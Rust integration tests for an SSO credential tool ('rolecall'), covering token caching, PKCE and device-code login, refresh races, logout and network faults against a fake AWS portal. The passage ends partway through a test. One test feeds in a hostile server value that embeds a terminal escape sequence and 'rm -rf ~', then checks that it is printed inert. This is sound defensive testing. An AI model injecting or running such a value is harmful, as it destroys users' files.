//! SSO (IAM Identity Center) base profiles end to end: rolecall finds the token `aws sso login`
//! cached, asks the portal for the profile's role credentials (the tests' own portal: moto has
//! none), then exports them, or assumes a role with them at moto_server.

use crate::common::fake_sso::{FakeSso, ACCESS_KEY_ID};
use crate::common::{self, Run, World};
use std::process::Command;
use std::time::Duration;

const CONFIG: &str = "[sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\n\
sso_region = eu-west-1\n\
[profile sso-dev]\nsso_session = corp\nsso_account_id = 111111111111\nsso_role_name = Developer\n\
region = eu-west-1\n\
[profile sso-admin]\nrole_arn = arn:aws:iam::222222222222:role/admin\nsource_profile = sso-dev\n\
[profile sso-legacy]\nsso_start_url = https://legacy.awsapps.com/start\nsso_region = eu-west-1\n\
sso_account_id = 333333333333\nsso_role_name = ReadOnly\n";

struct SsoWorld {
    world: World,
    portal: FakeSso,
}

fn sso_world() -> SsoWorld {
    sso_world_with(FakeSso::start())
}

fn sso_world_with(portal: FakeSso) -> SsoWorld {
    let world = World::with_moto();
    world.write_config(CONFIG);
    SsoWorld { world, portal }
}

impl SsoWorld {
    /// Writes the token `aws sso login` caches, under the name the AWS tools give it: the SHA-1
    /// of the session name (or, for a profile without a session, of its start URL).
    fn cache_login(&self, key: &str, token: &str, seconds_left: i64) {
        common::write_sso_token(
            self.world.home(),
            key,
            &serde_json::json!({
                "accessToken": token,
                "expiresAt": common::token_time(seconds_left),
            }),
        );
    }

    fn assume(&self, target: &str) -> Run {
        let mut command = self.world.rolecall(&["assume", "--json", target]);
        command.env("AWS_ENDPOINT_URL_SSO", &self.portal.endpoint);
        Run::of(command)
    }

    /// The query strings the portal was asked, with the token each carried.
    fn portal_calls(&self) -> Vec<(String, String)> {
        self.portal
            .calls_to("/federation/credentials")
            .into_iter()
            .map(|request| {
                let (path, query) = request.path.split_once('?').unwrap_or((&request.path, ""));
                assert_eq!(path, "/federation/credentials");
                let mut pairs: Vec<&str> = query.split('&').collect();
                pairs.sort();
                (pairs.join("&"), request.token)
            })
            .collect()
    }
}

#[test]
fn an_sso_profile_exports_the_role_credentials_the_portal_gives_for_the_cached_login() {
    let sso = sso_world();
    sso.cache_login("corp", "token-from-login", 3600);
    let run = sso.assume("sso-dev").success();
    let json = run.json();
    assert_eq!(json["AWS_ACCESS_KEY_ID"], ACCESS_KEY_ID);
    assert_eq!(json["AWS_SECRET_ACCESS_KEY"], "portal-secret");
    assert_eq!(json["AWS_SESSION_TOKEN"], "portal-token");
    assert_eq!(json["ROLECALL_PROFILE"], "sso-dev");
    assert!(json.get("AWS_PROFILE").is_none());
    assert_eq!(json["AWS_REGION"], "eu-west-1");
    let expires: i64 = json["ROLECALL_EXPIRES"].as_str().unwrap().parse().unwrap();
    let left = expires - chrono::Utc::now().timestamp();
    assert!((3500..=3600).contains(&left), "{left}s left");
    assert_eq!(
        sso.portal_calls(),
        [(
            "account_id=111111111111&role_name=Developer".to_string(),
            "token-from-login".to_string()
        )]
    );
}

#[test]
fn portal_expirations_outside_the_life_of_credentials_are_refused() {
    // An expiration of 0, one an hour ago, and year 10000 (in milliseconds, as the portal
    // writes them): each named as the SSO session's, nothing exported.
    let hour_ago_ms = (chrono::Utc::now().timestamp() - 3600) * 1000;
    for (expiration_ms, message) in [
        (0, "gave an expiration that has passed"),
        (hour_ago_ms, "gave an expiration that has passed"),
        (
            253_402_300_800_000,
            "gave an expiration more than 36 hours away",
        ),
    ] {
        let sso = sso_world();
        sso.portal
            .script(|script| script.role_expiration_ms = Some(expiration_ms));
        sso.cache_login("corp", "token-from-login", 3600);
        let run = sso.assume("sso-dev").failure(2);
        run.stderr_has(&format!("the SSO session of profile `sso-dev` {message}"));
    }
}

#[test]
fn a_role_on_an_sso_profile_is_assumed_with_the_portal_credentials_and_cached() {
    let mut sso = sso_world();
    sso.cache_login("corp", "token-from-login", 3600);
    let json = sso.assume("sso-admin").success().json();
    assert_eq!(
        json["ROLECALL_ROLE_ARN"],
        "arn:aws:iam::222222222222:role/admin"
    );
    let key = json["AWS_ACCESS_KEY_ID"].as_str().unwrap();
    assert!(key.starts_with("ASIA") && key != ACCESS_KEY_ID, "{key}");
    assert_eq!(sso.portal_calls().len(), 1);
    // The role's credentials are cached: a second assume asks neither the portal nor STS.
    sso.world.moto.as_mut().unwrap().stop();
    let again = sso.assume("sso-admin").success().json();
    assert_eq!(again["AWS_ACCESS_KEY_ID"], key);
    assert_eq!(sso.portal_calls().len(), 1);
}

#[test]
fn a_profile_with_its_own_start_url_finds_the_login_cached_under_that_url() {
    let sso = sso_world();
    sso.cache_login("https://legacy.awsapps.com/start", "legacy-token", 3600);
    let json = sso.assume("sso-legacy").success().json();
    assert_eq!(json["AWS_ACCESS_KEY_ID"], ACCESS_KEY_ID);
    assert_eq!(
        sso.portal_calls(),
        [(
            "account_id=333333333333&role_name=ReadOnly".to_string(),
            "legacy-token".to_string()
        )]
    );
}

#[test]
fn an_expired_or_missing_login_says_to_log_in_again_and_asks_no_portal() {
    let sso = sso_world();
    sso.assume("sso-dev")
        .failure(1)
        .stderr_has("the SSO login of sso-session `corp` has expired or was never made")
        .stderr_has("run `rolecall sso login sso-dev`");
    sso.cache_login("corp", "stale-token", -60);
    sso.assume("sso-admin")
        .failure(1)
        .stderr_has("run `rolecall sso login sso-dev`");
    assert!(sso.portal_calls().is_empty());
}

#[test]
fn an_unreachable_portal_is_called_a_network_problem_not_a_login_to_renew() {
    let sso = sso_world();
    sso.cache_login("corp", "token-from-login", 3600);
    let mut command = sso.world.rolecall(&["assume", "--json", "sso-dev"]);
    command.env(
        "AWS_ENDPOINT_URL_SSO",
        format!("http://127.0.0.1:{}", common::free_port()),
    );
    let run = Run::of(command).failure(1);
    run.stderr_has("could not get the SSO session of profile `sso-dev`")
        .stderr_has("check your network, and AWS_ENDPOINT_URL_SSO (the portal was asked at http://127.0.0.1:");
    assert!(!run.stderr.contains("aws sso login"), "{}", run.stderr);
}

#[test]
fn a_silent_portal_is_given_up_on_after_the_network_timeout() {
    let sso = sso_world_with(FakeSso::start_silent());
    sso.cache_login("corp", "token-from-login", 3600);
    let started = std::time::Instant::now();
    // The world's ROLECALL_STS_TIMEOUT is 3 s.
    let run = sso.assume("sso-dev").failure(1);
    let waited = started.elapsed().as_secs_f64();
    assert!((2.5..10.0).contains(&waited), "waited {waited:.1}s");
    run.stderr_has("the SSO session of profile `sso-dev` did not answer within 3s")
        .stderr_has(&format!(
            "check your network, and AWS_ENDPOINT_URL_SSO (the portal was asked at {})",
            sso.portal.endpoint
        ));
    assert_eq!(sso.portal_calls().len(), 1, "the portal was asked");
}

#[test]
fn an_endpoint_that_is_no_url_never_shows_the_token() {
    let sso = sso_world();
    sso.cache_login("corp", "secret-bearer-token", 3600);
    for variable in ["AWS_ENDPOINT_URL_SSO", "AWS_ENDPOINT_URL"] {
        for url in ["not a url", "http://ho<st", "http://[::1", "http://#frag"] {
            let mut command = sso.world.rolecall(&["assume", "--json", "sso-dev"]);
            command.env(variable, url);
            let run = Run::of(command).failure(2);
            run.stderr_has(&format!(
                "{variable} is `{url}`, which is not an http(s) URL"
            ));
            assert!(
                !run.stderr.contains("secret-bearer-token"),
                "{}",
                run.stderr
            );
        }
    }
    // An endpoint_url in the config reaches the SDK unchecked; its error is not printed either.
    sso.world.write_config(&format!(
        "{CONFIG}[profile sso-odd]\nsso_session = corp\nsso_account_id = 111111111111\n\
         sso_role_name = Developer\nendpoint_url = not a url\n"
    ));
    let run = Run::of(sso.world.rolecall(&["assume", "--json", "sso-odd"])).failure(2);
    run.stderr_has(
        "could not get the SSO session of profile `sso-odd`: the request for them could not be \
         built; check the endpoint_url settings of your config",
    );
    assert!(
        !run.stderr.contains("secret-bearer-token"),
        "{}",
        run.stderr
    );
    assert!(sso.portal_calls().is_empty());
}

// `rolecall sso login` and what follows from it: the token file the AWS CLI would write, used
// by rolecall and by botocore, refreshed silently, ended by `sso logout`.

/// The test's "browser": one that approves as a person would.
fn browser(world: &World) -> std::path::PathBuf {
    common::approving_browser(world)
}

impl SsoWorld {
    /// `rolecall ARGS` with the fake Identity Center as portal and OIDC service, and the test
    /// browser.
    fn rolecall(&self, args: &[&str]) -> Command {
        let mut command = self.world.rolecall(args);
        command
            .env("AWS_ENDPOINT_URL_SSO", &self.portal.endpoint)
            .env("AWS_ENDPOINT_URL_SSO_OIDC", &self.portal.endpoint)
            .env("BROWSER", browser(&self.world));
        command
    }

    fn token_file(&self, key: &str) -> std::path::PathBuf {
        common::sso_token_file(self.world.home(), key)
    }

    fn token(&self, key: &str) -> serde_json::Value {
        let text = std::fs::read_to_string(self.token_file(key)).expect("a token file");
        serde_json::from_str(&text).unwrap()
    }

    /// Moves the token's expiry into the past, as time would.
    fn expire_token(&self, key: &str) {
        let mut token = self.token(key);
        token["expiresAt"] = serde_json::json!("2020-01-01T00:00:00Z");
        std::fs::write(self.token_file(key), token.to_string()).unwrap();
    }

    /// botocore, a client rolecall did not write, resolving the profile's credentials from the
    /// files (it refreshes an expired token itself, from the same file).
    fn botocore_access_key(&self, profile: &str) -> Run {
        let mut command = self.world.command(common::test_python());
        command
            .args([
                "-c",
                "import sys, botocore.session\n\
                 print(botocore.session.Session(profile=sys.argv[1]).get_credentials().access_key)",
                profile,
            ])
            .env("AWS_ENDPOINT_URL_SSO", &self.portal.endpoint)
            .env("AWS_ENDPOINT_URL_SSO_OIDC", &self.portal.endpoint);
        Run::of(command)
    }
}

#[test]
fn login_with_pkce_writes_the_aws_cli_token_that_rolecall_and_botocore_use() {
    use std::os::unix::fs::MetadataExt;
    let sso = sso_world();
    let run = Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    run.stderr_has("to sign in to sso-session `corp`, open this page:")
        .stderr_has(&format!(
            "{}/authorize?response_type=code",
            sso.portal.endpoint
        ))
        .stderr_has("rolecall: logged in to sso-session `corp` until ");
    // Registered as a public client for the loopback redirect and refresh tokens.
    let register = &sso.portal.calls_to("/client/register")[0];
    let body: serde_json::Value = serde_json::from_str(&register.body).unwrap();
    assert_eq!(body["clientType"], "public");
    assert_eq!(body["redirectUris"][0], "http://127.0.0.1/oauth/callback");
    assert_eq!(
        body["grantTypes"],
        serde_json::json!(["authorization_code", "refresh_token"])
    );
    assert_eq!(body["issuerUrl"], "https://corp.awsapps.com/start");
    assert_eq!(body["scopes"], serde_json::json!(["sso:account:access"]));
    // The code was exchanged with its verifier (the fake checks it against the challenge).
    let exchange = &sso.portal.calls_to("/token")[0];
    assert!(
        exchange.body.contains("\"codeVerifier\""),
        "{}",
        exchange.body
    );
    // The file, where and as the AWS CLI writes it.
    let file = sso.token_file("corp");
    assert_eq!(std::fs::metadata(&file).unwrap().mode() & 0o777, 0o600);
    let token = sso.token("corp");
    for field in [
        "startUrl",
        "region",
        "accessToken",
        "expiresAt",
        "clientId",
        "clientSecret",
        "registrationExpiresAt",
        "refreshToken",
    ] {
        assert!(token.get(field).is_some(), "{field}: {token}");
    }
    assert!(token["expiresAt"].as_str().unwrap().ends_with('Z'));
    let access = token["accessToken"].as_str().unwrap().to_string();
    // rolecall uses it…
    let json = Run::of(sso.rolecall(&["assume", "--json", "sso-dev"]))
        .success()
        .json();
    assert_eq!(json["AWS_ACCESS_KEY_ID"], ACCESS_KEY_ID);
    assert_eq!(sso.portal_calls().last().unwrap().1, access);
    // …and so does botocore.
    let boto = sso.botocore_access_key("sso-dev").success();
    assert_eq!(boto.stdout.trim(), ACCESS_KEY_ID, "{}", boto.stderr);
    assert_eq!(sso.portal_calls().last().unwrap().1, access);
    // A second login reuses the registration.
    Run::of(sso.rolecall(&["sso", "login", "--profile", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/client/register").len(), 1);
}

#[test]
fn botocore_refreshes_the_token_rolecall_wrote_and_so_does_assume() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let first = sso.token("corp")["accessToken"].clone();
    sso.expire_token("corp");
    let boto = sso.botocore_access_key("sso-dev").success();
    assert_eq!(boto.stdout.trim(), ACCESS_KEY_ID, "{}", boto.stderr);
    let by_botocore = sso.token("corp")["accessToken"].clone();
    assert_ne!(by_botocore, first, "botocore did not refresh the file");
    // rolecall renews silently too, with no person there (--no-input).
    sso.expire_token("corp");
    let refreshes = sso.portal.calls_to("/token").len();
    Run::of(sso.rolecall(&["assume", "--json", "--no-input", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/token").len(), refreshes + 1);
    let renewed = sso.token("corp");
    assert_ne!(renewed["accessToken"], by_botocore);
    assert_eq!(
        sso.portal_calls().last().unwrap().1,
        renewed["accessToken"].as_str().unwrap()
    );
    assert!(renewed.get("refreshToken").is_some());
}

#[test]
fn the_javascript_sdk_refreshes_the_token_rolecall_wrote_and_assume_reads_its_file() {
    let sso = sso_world();
    let js = common::JsCaller::find();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let first = sso.token("corp")["accessToken"].clone();
    sso.expire_token("corp");
    // The SDK resolves the SSO profile itself: it refreshes the token and writes the file back.
    let mut command = js.command(&sso.world, Some("sso-dev"));
    command
        .env("AWS_ENDPOINT_URL_SSO", &sso.portal.endpoint)
        .env("AWS_ENDPOINT_URL_SSO_OIDC", &sso.portal.endpoint);
    let run = Run::of(command).success();
    assert_eq!(common::JsCaller::answer(&run)["signedWith"], ACCESS_KEY_ID);
    let by_sdk = sso.token("corp");
    assert_ne!(
        by_sdk["accessToken"], first,
        "the SDK did not refresh the file"
    );
    // rolecall takes the file as the SDK left it: no refresh of its own, the SDK's token used.
    let refreshes = sso.portal.calls_to("/token").len();
    Run::of(sso.rolecall(&["assume", "--json", "--no-input", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/token").len(), refreshes);
    assert_eq!(
        sso.portal_calls().last().unwrap().1,
        by_sdk["accessToken"].as_str().unwrap()
    );
}

#[test]
fn a_revoked_refresh_token_without_a_person_says_to_log_in() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    sso.portal.script(|s| s.revoke_refresh_tokens = true);
    Run::of(sso.rolecall(&["assume", "--json", "sso-admin"]))
        .failure(1)
        .stderr_has("run `rolecall sso login sso-dev`");
}

#[test]
fn a_legacy_profile_logs_in_with_a_device_code() {
    let sso = sso_world();
    sso.portal.script(|s| {
        s.pending_polls = 2;
        s.slow_down_once = true;
    });
    let started = std::time::Instant::now();
    let run = Run::of(sso.rolecall(&["sso", "login", "sso-legacy"])).success();
    run.stderr_has("to sign in to the SSO start URL https://legacy.awsapps.com/start, open ")
        .stderr_has("  code: CODE-");
    // SlowDown adds 5 s to the 1 s interval.
    assert!(started.elapsed() >= std::time::Duration::from_secs(6));
    let token = sso.token("https://legacy.awsapps.com/start");
    assert_eq!(token["startUrl"], "https://legacy.awsapps.com/start");
    let json = Run::of(sso.rolecall(&["assume", "--json", "sso-legacy"]))
        .success()
        .json();
    assert_eq!(json["AWS_ACCESS_KEY_ID"], ACCESS_KEY_ID);
    // An sso-session profile asked for the device code gets it too.
    Run::of(sso.rolecall(&["sso", "login", "sso-dev", "--device-code"])).success();
    assert!(sso.token("corp")["accessToken"].is_string());
}

#[test]
fn logout_ends_the_login_and_forgets_its_role_credentials() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let access = sso.token("corp")["accessToken"]
        .as_str()
        .unwrap()
        .to_string();
    Run::of(sso.rolecall(&["assume", "--json", "sso-admin"])).success();
    let cached = || {
        std::fs::read_dir(sso.world.cache_dir())
            .map(|d| {
                d.flatten()
                    .filter(|e| e.file_name().to_string_lossy().ends_with(".json"))
                    .count()
            })
            .unwrap_or(0)
    };
    assert_eq!(cached(), 1);
    Run::of(sso.rolecall(&["sso", "logout", "sso-admin"]))
        .success()
        .stderr_has("logged out of sso-session `corp`");
    assert_eq!(sso.portal.calls_to("/logout")[0].token, access);
    assert!(!sso.token_file("corp").exists());
    assert_eq!(
        cached(),
        0,
        "the role credentials from the login are still cached"
    );
    Run::of(sso.rolecall(&["assume", "--json", "--no-input", "sso-admin"]))
        .failure(1)
        .stderr_has("run `rolecall sso login sso-dev`");
}

/// A login fault: what it is, how the fake is scripted for it, the command, and the message.
type Fault = (
    &'static str,
    fn(&mut crate::common::fake_sso::Script),
    &'static [&'static str],
    &'static str,
);

#[test]
fn login_faults_each_get_one_clear_message_and_save_nothing() {
    let cases: [Fault; 2] = [
        (
            "a declined sign-in page",
            |s| s.decline = true,
            &["sso", "login", "sso-dev"],
            "the sign-in was refused (access_denied: declined in the browser)",
        ),
        (
            "a declined device code",
            |s| s.decline = true,
            &["sso", "login", "sso-legacy"],
            "was declined in the browser",
        ),
    ];
    for (what, script, args, message) in cases {
        let sso = sso_world();
        sso.portal.script(script);
        let run = Run::of(sso.rolecall(args)).failure(1);
        run.stderr_has(message);
        assert!(!run.stderr.contains('\u{1b}'), "{what}: {}", run.stderr);
        assert!(
            !sso.token_file("corp").exists(),
            "{what}: a token was saved"
        );
        assert!(
            !sso.token_file("https://legacy.awsapps.com/start").exists(),
            "{what}"
        );
    }
    // Hostile values from the server reach the terminal inert.
    let sso = sso_world();
    sso.portal.script(|s| s.hostile_device_values = true);
    let run = Run::of(sso.rolecall(&["sso", "login", "sso-legacy"])).success();
    assert!(
        !run.stderr.contains('\u{1b}') && !run.stderr.contains("\nrm -rf"),
        "{}",
        run.stderr
    );
    run.stderr_has("\\x1b]0;PWNED\\x07\\x0arm -rf ~");
    // No SSO profile named, several sessions: a usage error that lists them.
    sso.world.write_config(&format!("{CONFIG}[sso-session other]\nsso_start_url = https://o.awsapps.com/start\nsso_region = us-east-1\n"));
    Run::of(sso.rolecall(&["sso", "login"]))
        .failure(2)
        .stderr_has("--sso-session: corp, other");
    // A token file that is not private is as good as none.
    let sso = sso_world();
    sso.cache_login("corp", "world-readable", 3600);
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        sso.token_file("corp"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    Run::of(sso.rolecall(&["assume", "--json", "--no-input", "sso-dev"]))
        .failure(1)
        .stderr_has("run `rolecall sso login sso-dev`");
}

#[test]
fn ctrl_c_while_waiting_for_the_browser_ends_the_login_and_changes_nothing() {
    let sso = sso_world();
    sso.cache_login("corp", "kept", 3600);
    let before = sso.token("corp");
    let mut command = sso.rolecall(&["sso", "login", "sso-dev", "--no-browser"]);
    command.stderr(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    while !seen.contains("/authorize?") {
        let mut line = String::new();
        use std::io::BufRead;
        assert!(stderr.read_line(&mut line).unwrap() > 0, "{seen}");
        seen.push_str(&line);
    }
    // SAFETY: a signal to a process this test started.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().unwrap();
    // Ended by the signal itself, so the shell that ran it reports 130.
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}");
    assert_eq!(sso.token("corp"), before);
}

#[test]
fn a_device_login_neither_blocks_the_next_browser_login_nor_lacks_a_refresh_token() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev", "--device-code"])).success();
    assert!(sso.token("corp")["refreshToken"].is_string());
    sso.expire_token("corp");
    Run::of(sso.rolecall(&["assume", "--json", "--no-input", "sso-dev"])).success();
    // The device client is not offered to the browser flow (the service would not redirect).
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/client/register").len(), 2);
    // Other scopes, another registration; the same ones again, none.
    sso.world.write_config(&CONFIG.replace(
        "sso_region = eu-west-1\n[profile sso-dev]",
        "sso_region = eu-west-1\nsso_registration_scopes = sso:account:access, codewhisperer:completions\n[profile sso-dev]",
    ));
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/client/register").len(), 3);
}

#[test]
fn the_loopback_callback_ignores_other_requests_and_the_sign_in_page_gets_what_pkce_needs() {
    use std::os::unix::fs::PermissionsExt;
    let sso = sso_world();
    // A browser that first asks the loopback port for a favicon and leaves an idle connection
    // open, as browsers do, before it signs in.
    let noisy = sso.world.home().join("noisy-browser");
    let log = sso.world.home().join("noisy.log");
    std::fs::write(
        &noisy,
        format!(
            "#!/usr/bin/env python3\n{}\nimport socket\n\
             url = target_of(sys.argv[1], {log:?})\nopen({log:?}, 'w').write(url)\n\
             redirect = urllib.parse.parse_qs(urllib.parse.urlparse(url).query)['redirect_uri'][0]\n\
             loopback = urllib.parse.urlparse(redirect)\n\
             idle = socket.create_connection((loopback.hostname, loopback.port))\n\
             try:\n    urllib.request.urlopen('http://%s:%d/favicon.ico' % (loopback.hostname, loopback.port), timeout=10)\n\
             except Exception:\n    pass\n\
             urllib.request.urlopen(url, timeout=20).read()\n",
            crate::common::READ_PAGE_PY,
            log = log.display().to_string()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&noisy, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command.env("BROWSER", &noisy);
    Run::of(command).success();
    let url = std::fs::read_to_string(&log).unwrap();
    let query: std::collections::HashMap<String, String> =
        form_urlencoded::parse(url.split_once('?').unwrap().1.as_bytes())
            .into_owned()
            .collect();
    assert_eq!(query["response_type"], "code");
    assert_eq!(query["code_challenge_method"], "S256");
    assert_eq!(query["scopes"], "sso:account:access");
    assert_eq!(query["code_challenge"].len(), 43);
    assert!(query["state"].len() >= 16);
    assert!(query["redirect_uri"].starts_with("http://127.0.0.1:"));
    assert!(query["redirect_uri"].ends_with("/oauth/callback"));
    assert_eq!(
        query["client_id"],
        sso.token("corp")["clientId"].as_str().unwrap()
    );
}

#[test]
fn status_and_doctor_show_the_sso_login() {
    let sso = sso_world();
    let doctor = Run::of(sso.rolecall(&["doctor"]));
    assert!(
        doctor
            .stdout
            .contains("not logged in to sso-session `corp`: `rolecall sso login sso-admin`")
            || doctor
                .stdout
                .contains("not logged in to sso-session `corp`: `rolecall sso login sso-dev`"),
        "{}",
        doctor.stdout
    );
    sso.portal.script(|s| s.token_seconds = 1800);
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let doctor = Run::of(sso.rolecall(&["doctor"]));
    assert!(
        doctor.stdout.lines().any(|line| line
            .starts_with("ok      the login to sso-session `corp` has ")
            && line.ends_with("m left and is renewed with its refresh token")),
        "{}",
        doctor.stdout
    );
    let json = Run::of(sso.rolecall(&["assume", "--json", "sso-dev"]))
        .success()
        .json();
    let mut status = sso.rolecall(&["status"]);
    for (name, value) in json.as_object().unwrap() {
        status.env(name, value.as_str().unwrap());
    }
    let run = Run::of(status).success();
    assert!(
        run.stdout
            .contains("sso      sso-session `corp`, login until "),
        "{}",
        run.stdout
    );
}

#[test]
fn a_forgotten_registration_is_replaced_and_the_login_goes_on() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    let client = sso.token("corp")["clientId"].as_str().unwrap().to_string();
    sso.portal
        .script(|s| s.forgotten_client = Some(client.clone()));
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    assert_eq!(sso.portal.calls_to("/client/register").len(), 2);
    assert_ne!(sso.token("corp")["clientId"].as_str().unwrap(), client);
}

#[test]
fn oidc_endpoints_that_are_wrong_or_silent_are_said_plainly() {
    let sso = sso_world();
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command.env("AWS_ENDPOINT_URL_SSO_OIDC", "not a url");
    Run::of(command)
        .failure(2)
        .stderr_has("AWS_ENDPOINT_URL_SSO_OIDC is `not a url`, which is not an http(s) URL");
    let refused = format!("http://127.0.0.1:{}", common::free_port());
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command.env("AWS_ENDPOINT_URL_SSO_OIDC", &refused);
    Run::of(command).failure(1).stderr_has(&format!(
        "the SSO OIDC service at {refused} could not be reached"
    ));
    let silent = FakeSso::start_silent();
    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
    command.env("AWS_ENDPOINT_URL_SSO_OIDC", &silent.endpoint);
    let started = std::time::Instant::now();
    Run::of(command)
        .failure(1)
        .stderr_has("did not answer RegisterClient within 3s");
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    // A device code nobody approves runs out.
    sso.portal.script(|s| {
        s.pending_polls = usize::MAX;
        s.device_seconds = 2;
    });
    Run::of(sso.rolecall(&["sso", "login", "sso-legacy", "--no-browser"]))
        .failure(1)
        .stderr_has("was not approved in time");
}

#[test]
fn two_assumes_needing_a_renewal_at_once_renew_once() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    let before = sso.portal.calls_to("/token").len();
    let children: Vec<_> = (0..2)
        .map(|_| {
            sso.rolecall(&["assume", "--json", "--no-input", "--no-cache", "sso-dev"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    assert_eq!(sso.portal.calls_to("/token").len(), before + 1);
}

#[test]
fn assume_on_a_terminal_logs_in_itself_and_goes_on() {
    let sso = sso_world();
    let browser = browser(&sso.world);
    let terminal = crate::common::shell::Shell::new(&sso.world, "bash")
        .env("AWS_ENDPOINT_URL_SSO", &sso.portal.endpoint)
        .env("AWS_ENDPOINT_URL_SSO_OIDC", &sso.portal.endpoint)
        .env("BROWSER", browser.to_str().unwrap())
        .terminal("PS1='RC$ '\n");
    terminal.wait_for_text("RC$");
    terminal.line("assume sso-admin && echo \"held=$ROLECALL_PROFILE\"");
    terminal.wait_for_text("held=sso-admin");
    let screen = terminal.screen();
    assert!(
        screen.contains("has expired or was never made; logging in"),
        "{screen}"
    );
    assert!(sso.token_file("corp").exists());
}

// Faults and races around the token file: a full or read-only token directory, another client
// refreshing the same login, a logout while a renewal is in flight.

/// What one rolecall run inside `SsoWorld::in_private_mounts` left: its exit status, output,
/// and the token file's bytes right after it.
struct Inside {
    status: i32,
    stdout: String,
    stderr: String,
    token: Vec<u8>,
}

impl SsoWorld {
    /// Runs `script` with sh in a mount namespace of its own (`unshare -m`), so whatever it
    /// mounts goes when it ends, even if the test dies. `$CACHE` is the token directory, `$TOKEN`
    /// the login's token file, and `run N ARGS…` runs rolecall, keeping what `Inside` reads.
    fn in_private_mounts(&self, script: &str) -> Run {
        common::require_tool("unshare");
        common::require_tool("mount");
        let mut command = self.world.command("unshare");
        command
            .args(["-m", "--propagation", "private", "sh", "-euc"])
            .arg(format!(
                "run() {{ n=$1; shift; set +e; \"$ROLECALL\" \"$@\" >\"$HOME/out$n\" \
                 2>\"$HOME/err$n\"; echo $? >\"$HOME/rc$n\"; cat \"$TOKEN\" >\"$HOME/token$n\"; \
                 set -e; }}\n{script}"
            ))
            .env("AWS_ENDPOINT_URL_SSO", &self.portal.endpoint)
            .env("AWS_ENDPOINT_URL_SSO_OIDC", &self.portal.endpoint)
            .env("ROLECALL", common::BIN)
            .env("CACHE", self.token_file("corp").parent().unwrap())
            .env("TOKEN", self.token_file("corp"));
        Run::of(command).success()
    }

    fn inside(&self, n: u32) -> Inside {
        let read =
            |name: &str| std::fs::read(self.world.home().join(format!("{name}{n}"))).unwrap();
        let text = |name: &str| String::from_utf8(read(name)).unwrap();
        Inside {
            status: text("rc").trim().parse().unwrap(),
            stdout: text("out"),
            stderr: text("err"),
            token: read("token"),
        }
    }

    /// Sets the token's expiry `seconds` from now (negative: in the past).
    fn token_expiring_in(&self, seconds: i64) {
        let mut token = self.token("corp");
        token["expiresAt"] = serde_json::json!(common::token_time(seconds));
        std::fs::write(self.token_file("corp"), token.to_string()).unwrap();
    }

    fn refreshes(&self) -> usize {
        self.portal
            .calls_to("/token")
            .iter()
            .filter(|r| r.body.contains("\"refresh_token\""))
            .count()
    }
}

/// The steps that make the token directory a small tmpfs with no room left, its files copied in.
const FULL_TOKEN_DIRECTORY: &str = "saved=$(mktemp -d \"$HOME/saved.XXXXXX\")\n\
cp -a \"$CACHE/.\" \"$saved/\"\n\
mount -t tmpfs -o size=256k,mode=0700 tmpfs \"$CACHE\"\n\
cp -a \"$saved/.\" \"$CACHE/\"\n\
dd if=/dev/zero of=\"$CACHE/filler\" bs=4k 2>/dev/null || true\n";

#[test]
fn a_full_token_directory_spends_no_refresh_token_and_a_valid_token_still_serves() {
    let sso = sso_world();
    Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).success();
    sso.expire_token("corp");
    let expired = std::fs::read(sso.token_file("corp")).unwrap();
    let refreshes = sso.refreshes();
    sso.in_private_mounts(&format!(
        "{FULL_TOKEN_DIRECTORY}run 1 assume --json --no-input --no-cache sso-dev\n\
         rm \"$CACHE/filler\"\nrun 2 assume --json --no-input --no-cache sso-dev\n"
    ));
    let full = sso.inside(1);
    assert_eq!(full.status, 1, "{}", full.stderr);
    assert!(full.stdout.is_empty());
    for said in [
        "the SSO login of sso-session `corp` was not renewed: cannot write in ",
        "No space left on device",
        "its refresh token was not used",
    ] {
        assert!(full.stderr.contains(said), "{said}: {}", full.stderr);
    }
    assert_eq!(full.token, expired, "the token file changed");
    // Once there is room, the same refresh token renews the login: it was not spent.
    let roomy = sso.inside(2);
    assert_eq!(roomy.status, 0, "{}", roomy.stderr);
    assert_eq!(
        sso.refreshes(),
        refreshes + 1,
        "one refresh, after the room came back"
    );

    // A token with two minutes left serves while the disk is full, and is not renewed.
    sso.token_expiring_in(120);
